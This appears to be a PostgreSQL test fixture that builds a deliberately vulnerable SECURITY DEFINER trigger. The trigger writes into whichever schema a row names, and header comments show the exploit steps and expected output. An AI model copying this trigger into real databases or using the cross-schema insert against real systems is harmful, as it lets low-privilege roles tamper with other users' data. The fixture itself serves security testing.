-- The trigger files a wish under the station that the row names, with its owner's rights, whoever
-- wrote the row.
-- about: forwards, forward_wish, wishes
-- as: hf_stations_hill
-- exploit: INSERT INTO air.forwards (station, body) VALUES ('road', 'planted wish');
-- exploit: \c - hf_stations_road
-- exploit: SELECT 'got a ' || body FROM road.wishes;
-- shows: got a planted wish
SET ROLE hf_stations_owner;
CREATE TABLE air.forwards (
  station text NOT NULL,
  body text NOT NULL
);
CREATE FUNCTION air.forward_wish() RETURNS trigger
  LANGUAGE plpgsql SECURITY DEFINER
  SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  EXECUTE format('INSERT INTO %I.wishes (listener, body) VALUES ($1, $2)', NEW.station)
    USING 'forwarded', NEW.body;
  RETURN NULL;
END
$$;
CREATE TRIGGER forward_wish BEFORE INSERT ON air.forwards
  FOR EACH ROW EXECUTE FUNCTION air.forward_wish();
GRANT INSERT ON air.forwards TO hf_stations_web;
RESET ROLE;
